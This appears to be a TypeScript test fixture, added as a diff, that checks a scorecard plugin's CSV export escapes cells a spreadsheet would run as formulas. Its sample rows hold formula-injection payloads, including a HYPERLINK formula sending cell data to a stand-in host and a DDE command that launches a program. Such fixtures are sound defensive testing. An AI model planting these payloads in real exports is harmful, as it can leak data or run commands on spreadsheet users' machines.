@@ -1,0 +1,44 @@
+import { ScorecardRow } from '@reliability-suite/plugin-reliability-common';
+import { row } from './scorecardRows';
+
+/**
+ * Scorecard rows whose entity and user texts a spreadsheet would run as formulas: each text
+ * column starts with one of `=`, `+`, `-`, `@`, tab, carriage return or a full-width form; the
+ * budget left is negative, which must stay a number.
+ */
+export const formulaRows: ScorecardRow[] = [
+  row('formulas', {
+    title: '=HYPERLINK("https://evil.example.com/?"&A1,"Click")',
+    tier: 1,
+    owner: '+group:default/payments',
+    system: '-2+3',
+    domain: '@SUM(A1:A9)',
+    lifecycle: '\tproduction',
+    onCall: "\r=cmd|' /C calc'!A0",
+    runbookCount: 1,
+    sloCount: 2,
+    attainment: 0.5,
+    budgetRemaining: -12.5,
+    maxBurnRate: 14.4,
+    budgetStatus: 'burning_fast',
+    policyState: 'red',
+    readinessScore: 0.25,
+    missing: ['onCall', 'runbooks'],
+  }),
+  row('full-width', {
+    title: '＝1+1',
+    owner: '＋1',
+    system: '－1',
+    domain: '＠A1',
+    lifecycle: 'pro=duction',
+    onCall: 'PagerDuty -1',
+    budgetRemaining: -0.000001,
+    maxBurnRate: -1,
+  }),
+];
+
+/** The export lines of `formulaRows`, as a spreadsheet must receive them. */
+export const formulaRowLines = [
+  'component:default/formulas,"\'=HYPERLINK(""https://evil.example.com/?""&A1,""Click"")",1,\'+group:default/payments,\'-2+3,\'@SUM(A1:A9),\'\tproduction,"\'\r=cmd|\' /C calc\'!A0",1,2,0.5,-12.5,14.4,burning_fast,red,0.25,,onCall runbooks\n',
+  "component:default/full-width,'＝1+1,,'＋1,'－1,'＠A1,pro=duction,PagerDuty -1,0,0,,-0.000001,-1,no_data,nodata,,,\n",
+];
